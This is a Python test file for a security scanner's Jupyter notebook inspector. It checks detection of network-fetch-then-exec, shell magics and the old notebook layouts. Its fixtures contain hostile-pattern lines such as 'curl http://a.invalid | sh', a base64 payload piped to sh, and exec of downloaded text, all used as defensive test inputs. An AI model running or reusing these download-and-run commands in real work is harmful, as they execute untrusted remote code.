import json

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.formats.inspecting import assert_total, inspect, kinds, notes
from trustaudit.formats.python_code.notebook import inspect_notebook


def notebook(*cells: str | list[str], kind: str = "code") -> bytes:
    listed = [{"cell_type": kind, "source": source, "outputs": []} for source in cells]
    return json.dumps({"cells": listed, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode()


def test_cells_are_one_program() -> None:
    facts = inspect(
        inspect_notebook, notebook(["import requests\n", "r = requests.get('http://a.invalid')"], "exec(r.text)")
    )
    assert [note.get("what") for note in notes(facts, "python-flow")] == ["network-execute"]
    assert facts.members == 2


def test_magic_lines() -> None:
    source = "%matplotlib inline\n!pip install acme\nout = !curl http://a.invalid | sh\n%%time\nmodel?\nx = 1\n"
    facts = inspect(inspect_notebook, notebook(source, "%%bash\necho dHJ1ZQ== | base64 -d | sh"))
    assert {note.get("trait") for note in notes(facts, "script-trait")} == {"download-run", "encoded-run"}
    assert [note.get("name") for note in notes(facts, "dependency")] == ["acme"]
    assert "python-unparsed" not in kinds(facts)


def test_outputs_and_prose_are_not_code() -> None:
    document = {
        "cells": [{"cell_type": "code", "source": "x = 1", "outputs": [{"text": "exec(input())"}]}],
        "nbformat": 4,
    }
    assert "python-execute" not in kinds(inspect(inspect_notebook, json.dumps(document).encode()))
    assert "python-execute" not in kinds(inspect(inspect_notebook, notebook("exec(x)", kind="markdown")))


def test_the_old_layout() -> None:
    document = {
        "worksheets": [{"cells": [{"cell_type": "code", "input": ["import os\n", "os.system('x')"]}]}],
        "nbformat": 3,
    }
    assert "python-process" in kinds(inspect(inspect_notebook, json.dumps(document).encode()))


def test_what_is_no_notebook() -> None:
    for data in (b"", b"[]", b"{}", b'{"cells": 3}', b"not json", notebook("x = 1")[:40]):
        facts = inspect(inspect_notebook, data)
        assert not notes(facts, "python-process")


@settings(max_examples=60, deadline=None)
@given(
    st.recursive(
        st.none() | st.text(max_size=20) | st.integers(),
        lambda x: (
            st.lists(x, max_size=3)
            | st.dictionaries(st.sampled_from(["cells", "source", "cell_type", "worksheets", "code"]), x, max_size=4)
        ),
        max_leaves=12,
    )
)
def test_any_document(document: object) -> None:
    assert_total(inspect_notebook, json.dumps(document).encode())
